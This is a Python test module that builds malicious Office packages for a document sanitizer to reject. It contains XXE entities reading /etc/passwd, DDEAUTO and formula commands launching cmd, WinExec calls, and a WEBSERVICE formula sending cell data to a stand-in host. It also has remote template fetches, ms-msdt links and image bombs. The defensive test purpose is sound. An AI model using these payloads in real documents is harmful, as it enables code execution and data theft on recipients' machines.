# ruff: noqa: E501, ARG005  # tables: one attack a line, lambdas with the arguments that XlsxWriter gives
"""Attacks by what Office would run or fetch: XML entities, macros, objects, remote content, fields, links, formulas."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from safety.attacks import Attack, excel, package, word
from safety.making import SML, WML, Box, document, excel_box, part, png, run, word_box, workbook

_XML_CODES = ("package.dtd", "package.bad-xml", "package.encoding")
_DOC = "word/document.xml"
_DTDS: dict[str, str] = {
    "billion-laughs": "<!DOCTYPE a [" + '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>",
    "quadratic": f'<!DOCTYPE a [<!ENTITY a "{"A" * 50_000}">]>',
    "external-file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external-http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    "external-public": '<!DOCTYPE a PUBLIC "-//X" "http://127.0.0.1:9/x.dtd">',
    "external-subset": '<!DOCTYPE a SYSTEM "file:///etc/hostname">',
    "parameter-entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]>',
    "parameter-nested": '<!DOCTYPE a [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/passwd\'>"> %a;]>',
    "recursive": '<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
    "empty": "<!DOCTYPE a>",
    "lowercase": "<!doctype a>",
    "attribute-default": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>',
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "calc.exe">]>',
}  # fmt: skip


def _in_part(name: str, prologue: str) -> bytes:
    box = word_box("tekst")
    box.add("docProps/core.xml", b"<a/>", "application/vnd.openxmlformats-package.core-properties+xml")
    box.add("customXml/item1.xml", b"<a/>", "application/xml", _DOC, "customXml")
    parts = box.everything()
    text = parts[name].decode()
    head = text.index("?>") + 2 if text.startswith("<?xml") else 0
    parts[name] = (text[:head] + prologue + text[head:]).encode()
    return Box(parts).packed()


def _encoded(encoding: str, declared: str = "") -> bytes:
    box = word_box("tekst")
    text = box.parts[_DOC].decode().replace('encoding="UTF-8"', f'encoding="{declared or encoding}"')
    return box.add(_DOC, text.encode(encoding)).packed()


def _wide(prologue: str) -> bytes:
    box = word_box("tekst")
    text = box.parts[_DOC].decode().replace("UTF-8", "UTF-16")
    head = text.index("?>") + 2
    return box.add(_DOC, (text[:head] + prologue + text[head:]).encode("utf-16")).packed()


def _other_name(name: str) -> bytes:
    """A main part without the name of XML, so that whoever goes by names does not look."""
    box = Box().add(name, word_box(_field("DDEAUTO cmd")).parts[_DOC], WML + "document.main+xml", "", "officeDocument")
    box.defaults[name.rpartition(".")[2]] = "application/octet-stream"
    return box.packed()


def _xml() -> list[Attack]:
    found = [
        package(
            f"dtd-{name}-in-{part.rpartition('/')[2]}",
            lambda name=name, part=part: _in_part(part, _DTDS[name]),
            _XML_CODES,
        )
        for name in _DTDS
        for part in (_DOC, "docProps/core.xml", "customXml/item1.xml", "[Content_Types].xml", "_rels/.rels")
    ]
    return [
        *found,
        package("dtd-used-in-text", lambda: _in_part(_DOC, _DTDS["external-file"]).replace(b"tekst", b"&x;te"), ("package.damaged", *_XML_CODES)),
        package("dtd-in-utf16", lambda: _wide(_DTDS["external-file"]), _XML_CODES),
        package("dtd-in-utf16-without-mark", lambda: _in_part_raw('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16-le")), _XML_CODES),
        package("entity-undeclared", lambda: document(f"<w:p>{run('x').replace('x', '&onbekend;')}</w:p>"), _XML_CODES),
        package("encoding-utf7", lambda: _encoded("utf-7"), _XML_CODES),
        package("encoding-utf7-hidden-dtd", lambda: _in_part_raw(b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'), _XML_CODES),
        package("encoding-utf32", lambda: _encoded("utf-32"), _XML_CODES),
        package("encoding-ebcdic", lambda: _encoded("cp037"), (*_XML_CODES, "package.wrong-kind")),
        package("encoding-latin1", lambda: _encoded("latin-1"), _XML_CODES),
        package("encoding-unknown", lambda: _encoded("utf-8", "onzin"), _XML_CODES),
        package("encoding-lie", lambda: _encoded("utf-16", "utf-8"), _XML_CODES, may_pass=True),
        package("encoding-bad-bytes", lambda: word_box().add(_DOC, b"<a>\xff\xfe\x80</a>").packed(), (*_XML_CODES, "package.wrong-kind")),
        package("encoding-overlong", lambda: word_box().add(_DOC, b"<a>\xc0\xbc</a>").packed(), _XML_CODES),
        package("encoding-surrogate", lambda: word_box().add(_DOC, b"<a>\xed\xa0\x80</a>").packed(), _XML_CODES),
        package("nul-in-xml", lambda: word_box().add(_DOC, b"<a>\x00</a>").packed(), _XML_CODES),
        package("control-reference", lambda: document(f"<w:p>{run('x').replace('x', '&#1;')}</w:p>"), _XML_CODES),
        package("surrogate-reference", lambda: document(f"<w:p>{run('x').replace('x', '&#xD800;')}</w:p>"), _XML_CODES),
        package("not-well-formed", lambda: word_box().add(_DOC, b"<a><b></a>").packed(), _XML_CODES),
        package("two-roots", lambda: word_box().add(_DOC, b"<a/><b/>").packed(), _XML_CODES),
        package("twice-an-attribute", lambda: word_box().add(_DOC, b'<a b="1" b="2"/>').packed(), _XML_CODES),
        package("namespace-undeclared", lambda: word_box().add(_DOC, b"<x:a/>").packed(), (*_XML_CODES, "package.wrong-kind")),
        package("empty-part", lambda: word_box().add(_DOC, b"").packed(), _XML_CODES),
        package("xml-11", lambda: word_box().add(_DOC, b'<?xml version="1.1"?><a>&#1;</a>').packed(), _XML_CODES),
        package("stylesheet", lambda: _in_part(_DOC, '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/a.xsl"?>'), (*_XML_CODES, "package.external")),
        package("xinclude", lambda: _in_part_raw(b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>'), _XML_CODES, may_pass=True),
        package("main-named-bin", lambda: _other_name("word/document.bin"), "package.bad-field"),
        package("main-named-png", lambda: _other_name("word/document.png"), "package.bad-field"),
        package("main-named-txt", lambda: _other_name("word/a.txt"), "package.bad-field"),
    ]  # fmt: skip


def _in_part_raw(data: bytes) -> bytes:
    return word_box("tekst").add("customXml/item1.xml", data, "application/xml", _DOC, "customXml").packed()


def _added(name: str, kind: str, relation: str = "", source: str = _DOC, data: bytes = b"x") -> Callable[[], bytes]:
    return lambda: word_box("tekst").add(name, data, kind, source, relation).packed()


def _linked(relation: str, target: str, source: str = _DOC) -> Callable[[], bytes]:
    def make() -> bytes:
        box = word_box("tekst")
        if source != _DOC:
            kind = {"word/settings.xml": "settings", "word/header1.xml": "header"}[source]
            root = {"settings": "settings", "header": "hdr"}[kind]
            box.add(source, part(root, ""), WML + kind + "+xml", _DOC, kind)
        return box.link(source, relation, target, external=True).packed()

    return make


def _book(relation: str, target: str, source: str = "xl/worksheets/sheet1.xml") -> Callable[[], bytes]:
    def make() -> bytes:
        box = excel_box()
        folder, _, name = source.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels"
        row = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}" Target="{target}" TargetMode="External"/>'
        old = box.parts.get(
            rels,
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        )
        box.parts[rels] = old.replace(b"</Relationships>", row.encode() + b"</Relationships>")
        return box.packed()

    return make


_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
_MS = "http://schemas.microsoft.com/office/2006/relationships/"


def _with_base(address: str) -> bytes:
    """A document whose relative links all begin with an address."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    data = f'<Properties xmlns="{space}"><HyperlinkBase>{address}</HyperlinkBase></Properties>'.encode()
    kind = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
    return word_box("tekst").add("docProps/app.xml", data, kind, "", "extended-properties").packed()


def _contents() -> list[Attack]:
    office = "application/vnd.ms-office."
    return [
        package("macros-vba", _added("word/vbaProject.bin", office + "vbaProject", _MS + "vbaProject"), "package.macros"),
        package("macros-vba-renamed", _added("word/plaatje.png", office + "vbaProject", _MS + "vbaProject"), "package.macros"),
        package("macros-vba-without-type", lambda: _untyped("word/vbaProject.bin"), "package.macros"),
        package("macros-vba-case", lambda: _untyped("WORD/VBAPROJECT.BIN"), "package.macros"),
        package("macros-vba-relation-only", _added("word/a.bin", "application/octet-stream", _MS + "vbaProject"), "package.macros"),
        package("macros-vba-signature", _added("word/vbaProjectSignature.bin", office + "vbaProjectSignature", _MS + "vbaProjectSignature"), "package.macros"),
        package("macros-vba-data", _added("word/vbaData.xml", office.replace("office", "word") + "vbaData+xml", _MS + "wordVbaData", data=b"<a/>"), "package.macros"),
        package("macros-key-map", _added("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", _MS + "keyMapCustomizations", data=b"<a/>"), ("package.altchunk", "package.macros")),
        package("macros-toolbars", _added("word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars", _MS + "attachedToolbars"), ("package.altchunk", "package.macros")),
        package("macros-sheet", lambda: excel_box().add("xl/macrosheets/a.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml").packed(), ("package.macros", "package.no-content-type")),
        package("macros-entry", lambda: document('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="AutoOpen"/></w:ffData></w:fldChar></w:r></w:p>'), "package.macros"),
        package("macros-exit", lambda: document('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:exitMacro w:val="Boos"/></w:ffData></w:fldChar></w:r></w:p>'), "package.macros"),
        package("macros-shape-click", lambda: _shape_macro("'\\\\10.0.0.1\\a.xlsm'!Boos"), "package.macros"),
        package("macros-auto-open", lambda: workbook({}, draw=lambda b, s: b.define_name("Auto_Open", "=Blad!$A$1")), "package.bad-formula"),
        package("macros-auto-open-case", lambda: workbook({}, draw=lambda b, s: b.define_name("auto_OPEN2", "=Blad!$A$1")), "package.bad-formula"),
        package("macros-ribbon", _added("customUI/customUI.xml", "application/xml", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "", b"<customUI/>"), "package.external"),
        package("macros-web-extension", _added("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "", b"<a/>"), "package.external"),
        package("ole-embedded", _added("word/embeddings/oleObject1.bin", _OLE_TYPE, "oleObject"), "package.ole"),
        package("ole-package", _added("word/embeddings/Blad.xlsx", SML + "sheet", "package"), "package.ole"),
        package("ole-elsewhere", _added("word/media/a.bin", _OLE_TYPE), "package.ole"),
        package("ole-linked", _linked("oleObject", "file://server/a.xls"), ("package.ole", "package.external")),
        package("ole-follina", _linked("oleObject", "https://boos.nl/a.html!"), ("package.ole", "package.external")),
        package("ole-equation", _added("word/embeddings/Microsoft_Equation.bin", _OLE_TYPE, "oleObject"), "package.ole"),
        package("activex-part", _added("word/activeX/activeX1.xml", office + "activeX+xml", "control", data=b"<a/>"), "package.activex"),
        package("activex-binary", _added("word/activeX/activeX1.bin", office + "activeX", _MS + "activeXControlBinary"), "package.activex"),
        package("activex-renamed", _added("word/a.xml", office + "activeX+xml", "control", data=b"<a/>"), "package.activex"),
        package("altchunk-html", _added("word/a.html", "text/html", "aFChunk"), "package.altchunk"),
        package("altchunk-mht", _added("word/a.mht", "message/rfc822", "aFChunk"), "package.altchunk"),
        package("altchunk-rtf", _added("word/a.rtf", "application/rtf", "aFChunk"), "package.altchunk"),
        package("altchunk-docx", _added("word/a.docx", WML + "document", "aFChunk"), "package.altchunk"),
        package("altchunk-element", lambda: document("<w:altChunk/>"), "package.altchunk"),
        package("altchunk-external", _linked("aFChunk", "https://boos.nl/a.html"), ("package.altchunk", "package.external")),
        package("subdocument", _linked("subDocument", "file:///c:/a.docx"), ("package.altchunk", "package.external")),
        package("subdocument-element", lambda: document("<w:p><w:subDoc/></w:p>"), "package.altchunk"),
        package("frame", _linked("frame", "https://boos.nl"), ("package.altchunk", "package.external")),
        package("remote-template", _linked("attachedTemplate", "https://boos.nl/a.dotm", "word/settings.xml"), "package.external"),
        package("remote-template-unc", _linked("attachedTemplate", "\\\\10.0.0.1\\deel\\a.dotm", "word/settings.xml"), "package.external"),
        package("remote-image", _linked("image", "https://boos.nl/volg.png"), "package.external"),
        package("remote-image-in-header", _linked("image", "https://boos.nl/volg.png", "word/header1.xml"), "package.external"),
        package("remote-image-unc", _linked("image", "file://10.0.0.1/deel/a.png"), "package.external"),
        package("remote-image-vml", lambda: document('<w:p><w:r><w:pict><v:shape><v:imagedata src="https://boos.nl/a.png"/></v:shape></w:pict></w:r></w:p>'), "package.external"),
        package("remote-image-vml-href", lambda: document('<w:p><w:r><w:pict><v:shape><v:imagedata o:href="https://boos.nl/a.png"/></v:shape></w:pict></w:r></w:p>'), "package.external"),
        package("remote-fill-vml", lambda: document('<w:p><w:r><w:pict><v:rect><v:fill src="\\\\10.0.0.1\\a.png"/></v:rect></w:pict></w:r></w:p>'), "package.external"),
        package("remote-movie", _linked("video", "https://boos.nl/a.mp4"), "package.external"),
        package("remote-audio", _linked("audio", "https://boos.nl/a.mp3"), "package.external"),
        package("remote-style", _linked("transform", "https://boos.nl/a.xslt", "word/settings.xml"), "package.external"),
        package("remote-settings", _linked("recipientData", "https://boos.nl/a", "word/settings.xml"), "package.external"),
        package("mail-merge-source", _linked("mailMergeSource", "file:///c:/a.mdb", "word/settings.xml"), ("package.external-data", "package.external")),
        package("mail-merge-element", lambda: word_box("t").add("word/settings.xml", part("settings", "<w:mailMerge/>"), WML + "settings+xml", _DOC, "settings").packed(), "package.external-data"),
        package("embedded-font", _added("word/fonts/a.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "font"), "package.embedded-font"),
        package("embedded-font-renamed", _added("word/a.bin", "application/octet-stream", "font"), "package.embedded-font"),
        package("embedded-font-opentype", _added("word/fonts/a.odttf", "application/vnd.ms-package.obfuscated-opentype", "font"), "package.embedded-font"),
        package("link-base", lambda: _with_base("\\\\10.0.0.1\\deel"), "package.bad-link"),
        package("link-base-script", lambda: _with_base("javascript:"), "package.bad-link"),
        package("picture-tiff-exe", _added("word/media/a.tif", "image/tiff", "image", data=b"MZ" + b"\0" * 99), "package.bad-image"),
        package("picture-emf-html", _added("word/media/a.emf", "image/x-emf", "image", data=b"\0<html><script>"), "package.bad-image"),
        package("picture-icon-exe", _added("word/media/a.ico", "image/x-icon", "image", data=b"MZ" + b"\0" * 99), "package.bad-image"),
        package("embedded-font-truetype", _added("word/fonts/a.ttf", "application/x-font-ttf", "font"), "package.embedded-font"),
        package("executable", _added("word/a.exe", "application/x-msdownload", data=b"MZ"), ("package.no-content-type", "package.unknown-part", "package.external", "package.ole")),
        package("workbook-external-link", _book("externalLinkPath", "file:///c:/a.xlsx", "xl/workbook.xml"), ("package.external-data", "package.external")),
        package("workbook-connections", lambda: excel_box().add("xl/connections.xml", b"<a/>", SML + "connections+xml").packed(), ("package.external-data", "package.no-content-type")),
        package("workbook-image-remote", _book("image", "https://boos.nl/a.png"), "package.external"),
        package("workbook-link-file", _book("hyperlink", "file://10.0.0.1/deel"), "package.bad-link"),
        package("workbook-link-javascript", _book("hyperlink", "javascript:alert(1)"), "package.bad-link"),
        package("workbook-query-table", _book("queryTable", "https://boos.nl"), ("package.external-data", "package.external")),
        package("workbook-ole", _book("oleObject", "file:///c:/a"), ("package.ole", "package.external")),
        package("workbook-control-macro", lambda: workbook({}, draw=lambda b, s: s.insert_button("B2", {"macro": "PERSONAL.XLSB!Boos"})), "package.macros"),
        *(package(f"svg-{name}", lambda svg=svg: _svg(svg), "package.bad-image") for name, svg in _SVG.items()),
        *_images(),
    ]  # fmt: skip


_SVG = {
    "script": "<script>alert(1)</script>",
    "onload": '<g onload="alert(1)"/>',
    "link": '<a href="javascript:alert(1)"/>',
    "image": '<image href="https://boos.nl/a.png"/>',
    "foreign": "<foreignObject><body/></foreignObject>",
    "use": '<use href="https://boos.nl/a.svg#a"/>',
    "style": '<rect style="fill:url(http://boos.nl/a)"/>',
    "xlink": '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="file:///etc/passwd"/>',
    "style-import": "<style>@import 'https://boos.nl/a.css';</style>",
    "style-url": "<style>rect{fill:url('//boos.nl/a')}</style>",
}


def _svg(content: str) -> bytes:
    data = f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'.encode()
    return word_box("t").add("word/media/a.svg", data, "image/svg+xml", _DOC, "image").packed()


def _untyped(name: str) -> bytes:
    box = word_box("tekst")
    box.defaults["bin"] = box.defaults["BIN"] = "application/octet-stream"
    del box.defaults["BIN"]
    return box.add(name, b"x").packed()


def _shape_macro(macro: str) -> bytes:
    box = Box(excel_box(draw=lambda b, s: s.insert_textbox("B2", "a")).parts)
    old = box.parts["xl/drawings/drawing1.xml"]
    assert b'macro=""' in old
    return box.add("xl/drawings/drawing1.xml", old.replace(b'macro=""', f'macro="{macro}"'.encode())).packed()


def _images() -> list[Attack]:
    def picture(data: bytes, kind: str = "image/png", name: str = "word/media/a.png") -> Callable[[], bytes]:
        return lambda: word_box("t").add(name, data, kind, _DOC, "image").packed()

    jpeg = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 20
    gif = b"GIF89a\xff\xff\xff\xff\x00\x00\x00"
    bmp = b"BM" + b"\0" * 16 + b"\xff\xff\xff\x7f\xff\xff\xff\x7f" + b"\0" * 8
    codes = ("package.image-too-large", "package.bad-image")
    return [
        package("image-pixels", picture(png(30_000, 30_000)), codes),
        package("image-pixels-wide", picture(png(2**31 - 1, 1)), codes),
        package("image-pixels-negative", picture(png(2**32 - 1, 2**32 - 1)), codes),
        package("image-zero", picture(png(0, 0)), codes),
        package("image-jpeg-pixels", picture(jpeg, "image/jpeg", "word/media/a.jpg"), codes),
        package("image-jpeg-endless-marks", picture(b"\xff\xd8" + b"\xff" * 3_000_000, "image/jpeg", "word/media/a.jpg"), (*codes, "package.ratio")),
        package("image-jpeg-empty-segments", picture(b"\xff\xd8\xff" + b"\xff\xe0\x00\x00" * 9999, "image/jpeg", "word/media/a.jpg"), codes),
        package("image-gif-pixels", picture(gif, "image/gif", "word/media/a.gif"), codes),
        package("image-bmp-pixels", picture(bmp, "image/bmp", "word/media/a.bmp"), codes),
        package("image-is-text", picture(b"geen plaatje"), codes),
        package("image-is-html", picture(b"<html><script>"), (*codes, "package.bad-xml")),
        package("image-is-zip", picture(document("a")), codes),
        package("image-is-exe", picture(b"MZ\x90"), codes),
        package("image-empty", picture(b""), codes),
        package("image-truncated", picture(png(10, 10)[:20]), codes),
        package("image-emf", picture(b"\x01\0\0\0" + b"\0" * 99, "image/x-emf", "word/media/a.emf"), (*codes, "package.external"), may_pass=True),
        package("image-wmf", picture(b"\xd7\xcd\xc6\x9a" + b"\0" * 99, "image/x-wmf", "word/media/a.wmf"), codes, may_pass=True),
        package("image-tiff", picture(b"II*\0" + b"\0" * 99, "image/tiff", "word/media/a.tiff"), codes, may_pass=True),
    ]  # fmt: skip


FIELDS: dict[str, str] = {
    "dde": "DDE cmd /c calc",
    "ddeauto": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "ddeauto-case": "dDeAuTo cmd calc",
    "ddeauto-spaces": " \t\u00a0 DDEAUTO cmd",
    "ddeauto-quoted": '"DDEAUTO" cmd',
    "ddeauto-fullwidth": "ＤＤＥAUTO cmd",
    "includetext": "INCLUDETEXT file:///etc/passwd",
    "includetext-http": "INCLUDETEXT http://127.0.0.1:9/x",
    "includepicture": "INCLUDEPICTURE https://boos.nl/a.png \\d",
    "include": "INCLUDE c:\\a.doc",
    "import": "IMPORT c:\\a.wmf",
    "link": "LINK Excel.Sheet.8 c:\\a.xls",
    "rd": "RD c:\\a.docx \\f",
    "database": 'DATABASE \\d "c:\\a.mdb"',
    "macrobutton": "MACROBUTTON Boos Klik",
    "gotobutton": "GOTOBUTTON a Klik",
    "autotext": "AUTOTEXT a",
    "autotextlist": "AUTOTEXTLIST a",
    "embed": "EMBED Package",
    "print": 'PRINT "\\027"',
    "quote": "QUOTE 68 68 69",
    "addin": "ADDIN a",
    "htmlcontrol": "HTMLCONTROL a",
    "private": "PRIVATE a",
    "data": "DATA c:\\a.txt",
    "ask": 'ASK a "Wat is uw wachtwoord?"',
    "fillin": 'FILLIN "Wat is uw wachtwoord?"',
    "set": 'SET a "b"',
    "unknown": "BESTAATNIET a",
    "hyperlink-file": 'HYPERLINK "file:///c:/a.exe"',
    "hyperlink-unc": 'HYPERLINK "\\\\\\\\10.0.0.1\\\\deel"',
    "hyperlink-javascript": 'HYPERLINK "javascript:alert(1)"',
    "hyperlink-data": 'HYPERLINK "data:text/html,x"',
    "hyperlink-relative": 'HYPERLINK "..\\\\a.exe"',
    "hyperlink-bare": "HYPERLINK calc.exe",
    "hyperlink-after-switch": 'HYPERLINK \\o "tip" "file:///c:/a.exe"',
    "hyperlink-ms-word": 'HYPERLINK "ms-word:ofe|u|https://boos.nl/a.dotm"',
    "hyperlink-search": 'HYPERLINK "search-ms:query=a"',
}


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _instr(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _field(text: str) -> str:
    return f"<w:p>{_char('begin')}{_instr(text)}{_char('separate')}{run('a')}{_char('end')}</w:p>"


def _letters(text: str) -> str:
    return f"<w:p>{_char('begin')}{''.join(map(_instr, text))}{_char('end')}</w:p>"


def _simple(text: str) -> str:
    value = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\t", "&#9;")
    return f'<w:p><w:fldSimple w:instr="{value}"/></w:p>'


def _fields() -> list[Attack]:
    found: list[Attack] = []
    for name, text in FIELDS.items():
        for way, write in (("whole", _field), ("letters", _letters), ("simple", _simple)):
            found.append(
                package(
                    f"field-{name}-{way}", lambda text=text, write=write: document(write(text)), "package.bad-field"
                )
            )
    nested = f"{_char('begin')}{_char('begin')}{_instr('QUOTE 68 68 69')}{_char('end')}{_instr(' cmd')}{_char('end')}"
    in_name = f"{_char('begin')}{_instr('D')}{_char('begin')}{_instr('= 1')}{_char('end')}{_instr('DEAUTO cmd')}{_char('end')}"
    by_name = f"{_char('begin')}{_char('begin')}{_instr('DOCPROPERTY a')}{_char('end')}{_instr(' cmd')}{_char('end')}"
    in_link = (
        f"{_char('begin')}{_instr('HYPERLINK ')}{_char('begin')}{_instr('DOCPROPERTY a')}{_char('end')}{_char('end')}"
    )
    in_if = f"{_char('begin')}{_instr('IF 1 = 1 ')}{_char('begin')}{_instr('DDEAUTO cmd')}{_char('end')}{_char('end')}"
    over = f"<w:p>{_char('begin')}{_instr('DDE')}</w:p><w:p>{_instr('AUTO cmd')}{_char('end')}</w:p>"
    proof = (
        f'<w:p>{_char("begin")}{_instr("DD")}<w:proofErr w:type="spellStart"/>{_instr("EAUTO cmd")}{_char("end")}</w:p>'
    )
    unended = f"<w:p>{_char('begin')}{_instr('DDEAUTO cmd')}</w:p>"
    unbegun = f"<w:p>{_instr('DDEAUTO cmd')}</w:p>"
    deleted = f"<w:p><w:del w:id='1' w:author='a'>{_char('begin')}<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>{_char('end')}</w:del></w:p>"
    in_box = (
        "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>"
        + _field("DDEAUTO cmd")
        + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    both = (
        f"<w:p>{_char('begin')}{_char('begin')}{_instr('IF ')}{_char('end')}{_instr('DDEAUTO cmd')}{_char('end')}</w:p>"
    )
    shapes = {"nested": f"<w:p>{nested}</w:p>", "nested-in-name": f"<w:p>{in_name}</w:p>", "nested-property": f"<w:p>{by_name}</w:p>",
              "nested-in-link": f"<w:p>{in_link}</w:p>", "nested-in-if": f"<w:p>{in_if}</w:p>", "over-paragraphs": over,
              "over-proof-marks": proof, "unended": unended, "unbegun": unbegun, "deleted": deleted, "in-textbox": in_box,
              "after-nested": both}  # fmt: skip
    found += [
        package(f"field-shape-{name}", lambda xml=xml: document(xml), "package.bad-field")
        for name, xml in shapes.items()
    ]
    places = {"header": ("hdr", "header+xml", "header"), "footer": ("ftr", "footer+xml", "footer"), "comments": ("comments", "comments+xml", "comments"),
              "footnotes": ("footnotes", "footnotes+xml", "footnotes"), "glossary": ("glossaryDocument", "document.glossary+xml", "glossaryDocument")}  # fmt: skip
    for name, (root, kind, relation) in places.items():
        found.append(
            package(
                f"field-in-{name}",
                _added(f"word/{name}.xml", WML + kind, relation, data=part(root, _field("DDEAUTO cmd"))),
                "package.bad-field",
            )
        )
    return found


LINKS: dict[str, str] = {
    "file": "file:///c:/windows/system32/calc.exe",
    "file-server": "file://10.0.0.1/deel/a.exe",
    "unc": "\\\\10.0.0.1\\deel\\a.exe",
    "unc-slashes": "//10.0.0.1/deel/a.exe",
    "javascript": "javascript:alert(1)",
    "javascript-case": "JaVaScRiPt:alert(1)",
    "javascript-spaces": "  javascript:alert(1)",
    "javascript-tab": "java\tscript:alert(1)",
    "javascript-newline": "java\nscript:alert(1)",
    "javascript-control": "\x01javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "ftp": "ftp://boos.nl/a",
    "ms-word": "ms-word:ofe|u|https://boos.nl/a.dotm",
    "ms-excel": "ms-excel:ofe|u|https://boos.nl/a.xlsm",
    "ms-msdt": "ms-msdt:/id PCWDiagnostic",
    "search-ms": "search-ms:query=a&crumb=location:\\\\10.0.0.1",
    "shell": "shell:startup",
    "about": "about:blank",
    "blob": "blob:https://a/b",
    "relative": "..\\..\\a.exe",
    "plain-exe": "calc.exe",
    "scheme-less": "boos.nl/a",
    "empty": "",
    "only-spaces": "   ",
    "drive": "c:\\windows\\system32\\calc.exe",
    "http-backslash": "http:\\\\boos.nl",
    "bad-ipv6": "http://[::1",
    "surrogate": "https://a/\ud800",
    "nul": "https://a/\0",
    "bidi": "\u202ehttps://a",
}


def _links() -> list[Attack]:
    found: list[Attack] = []
    refusals = (
        "word.bad-link",
        "excel.bad-link",
        "template.illegal-character",
        "excel.bad-character",
        "template.wrong-value",
    )
    for name, address in LINKS.items():
        if address.isprintable() and name not in ("surrogate", "empty", "only-spaces", "bidi", "http-backslash"):
            found.append(package(f"link-{name}", _linked("hyperlink", address), "package.bad-link"))

        def data(address: str = address) -> dict[str, Any]:
            from docgen.template import Link

            return {"x": Link("tekst", address)}

        harmless = name == "http-backslash"  # a browser makes it the address that it looks like
        links = (address,) if harmless else ()
        found.append(
            word(f"link-{name}", lambda: document("{{ x }}"), data, refused=refusals, may_pass=harmless, links=links)
        )
        found.append(
            excel(
                f"link-{name}",
                lambda: workbook({"A1": "{{ x }}"}),
                data,
                refused=refusals,
                may_pass=harmless,
                links=links,
            )
        )
    return found


FORMULAS: dict[str, str] = {
    "dde": "==cmd|'/c calc'!A0",
    "dde-quoted": "=='cmd'|'/c calc'!A0",
    "dde-mshta": "==MSEXCEL|'\\..\\..\\windows\\system32\\mshta'!''",
    "dde-in-sum": "==SUM(cmd|'/c calc'!A0,1)",
    "webservice": '==WEBSERVICE("https://boos.nl/"&A1)',
    "webservice-case": '==webservice ("https://boos.nl")',
    "webservice-prefixed": '==_xlfn.WEBSERVICE("https://boos.nl")',
    "filterxml": '==FILTERXML("<a/>","//a")',
    "image": '==_xlfn.IMAGE("https://boos.nl/volg.png")',
    "rtd": '==RTD("boos",,"a")',
    "call": '==CALL("kernel32","WinExec","JCJ","calc",0)',
    "register": '==REGISTER("kernel32","WinExec","JCJ")',
    "register-id": '==REGISTER.ID("kernel32","WinExec","JCJ")',
    "exec": '==EXEC("calc")',
    "evaluate": '==EVALUATE("1+1")',
    "get-workspace": "==GET.WORKSPACE(1)",
    "python": "==_xlfn._xlws.PY(0,1)",
    "importxml": '==IMPORTXML("https://boos.nl","//a")',
    "importdata": '==IMPORTDATA("https://boos.nl")',
    "importrange": '==IMPORTRANGE("a","b")',
    "hyperlink-file": '==HYPERLINK("file://10.0.0.1/deel","klik")',
    "hyperlink-unc": '==HYPERLINK("\\\\10.0.0.1\\deel","klik")',
    "hyperlink-javascript": '==HYPERLINK("javascript:alert(1)")',
    "other-book": "=='[Boek.xlsx]Blad'!A1",
    "other-book-bare": "==[Boek.xlsx]Blad!A1",
    "other-book-number": "==[1]Blad!A1",
    "other-book-path": "=='c:\\a\\[Boek.xlsx]Blad'!A1",
    "other-book-unc": "=='\\\\10.0.0.1\\deel\\[Boek.xlsx]Blad'!A1",
    "other-book-url": "=='https://boos.nl/[Boek.xlsx]Blad'!A1",
}


def _formulas() -> list[Attack]:
    codes = ("package.bad-formula", "package.external-data")
    found = [
        package(f"formula-{name}", lambda text=text: workbook({"A1": text}), codes) for name, text in FORMULAS.items()
    ]
    evil = FORMULAS["webservice"][1:]
    found += [
        package("formula-in-name", lambda: workbook({}, draw=lambda b, s: b.define_name("a", evil)), codes),
        package("formula-in-validation", lambda: workbook({}, draw=lambda b, s: s.data_validation("A1", {"validate": "custom", "value": evil})), codes),
        package("formula-in-validation-list", lambda: workbook({}, draw=lambda b, s: s.data_validation("A1", {"validate": "list", "source": "='[1]Blad'!A1"})), codes),
